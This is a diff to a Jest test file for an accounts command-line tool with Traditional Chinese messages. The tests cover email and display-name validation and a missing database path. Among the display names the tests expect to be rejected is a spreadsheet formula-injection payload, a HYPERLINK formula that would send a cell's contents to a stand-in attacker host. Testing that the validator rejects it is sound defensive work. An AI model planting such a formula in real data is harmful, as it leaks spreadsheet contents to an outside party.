@@ -62,6 +62,8 @@ describe('npm run accounts', () => {
       'Harbour-Lights#2026\n',
     );
     expect(run).toEqual(expect.objectContaining({ code: 0, stderr: '' }));
+    // The recipe's first command makes the database, and says where.
+    if (!databaseUrl) expect(run.stdout).toContain(`建立新的資料庫：${dbPath}\n`);
     // An administrator gets every right, publishing (p) among them.
     expect(run.stdout).toContain('已新增帳號：chief（館長）管理者，啟用，電子郵件：未設定，權限：*:rwdp');
     const [row] = await sql("SELECT is_admin, must_change_password FROM users WHERE account = 'chief'");
@@ -206,12 +208,49 @@ describe('npm run accounts', () => {
   it('refuses a wrong address with exit code 2 and the zh-TW reason, and asks for one or --clear', async () => {
     const wrong = await accounts(dbPath, ['set-email', 'mailer', 'desk@']);
     expect(wrong.code).toBe(2);
-    expect(wrong.stderr).toMatch(/^電子郵件「desk@」無法使用：電子郵件地址格式不正確/);
+    expect(wrong.stderr).toMatch(/^輸入資料有誤：電子郵件地址格式不正確/);
     const neither = await accounts(dbPath, ['set-email', 'mailer']);
     expect(neither.code).toBe(2);
     expect(neither.stderr).toContain('--clear');
     const both = await accounts(dbPath, ['set-email', 'mailer', 'a@museum.example', '--clear']);
     expect(both.code).toBe(2);
     expect((await accounts(dbPath, ['set-email', 'nobody', 'a@museum.example'])).code).toBe(3);
+  }, 60_000);
+
+  it('checks a display name by the API rules: 51 characters, a formula or a line break exit 2', async () => {
+    for (const name of [
+      '名'.repeat(51),
+      '=HYPERLINK("http://evil.example/?"&A2,"開啟")',
+      '＝1+2',
+      '第一行\n=1+2',
+    ]) {
+      const run = await accounts(
+        dbPath,
+        ['add', 'namecheck', '--name', name, '--password-stdin'],
+        'Harbour-Lights#2026\n',
+      );
+      expect(run.code).toBe(2);
+      expect(run.stderr).toMatch(/^輸入資料有誤：顯示名稱/);
+      expect(run.stderr.trimEnd().split('\n')).toHaveLength(1);
+    }
+    expect(await sql("SELECT account FROM users WHERE account = 'namecheck'")).toEqual([]);
+  }, 60_000);
+
+  it('refuses a DB_PATH that does not exist for every command but add, making nothing there', async () => {
+    if (databaseUrl) return;
+    const missing = path.join(dir, 'typo', 'site.sqlite');
+    for (const args of [
+      ['list'],
+      ['unlock', 'chief'],
+      ['reset-password', 'chief'],
+      ['set-email', 'chief', '--clear'],
+    ]) {
+      const run = await accounts(missing, args);
+      expect(run.code).toBe(6);
+      expect(run.stderr).toBe(
+        `找不到資料庫 ${missing}：請以 DB_PATH 指定網站的資料庫（只有 add 會建立新的資料庫）。\n`,
+      );
+    }
+    expect(fs.existsSync(path.join(dir, 'typo'))).toBe(false);
   }, 60_000);
 });
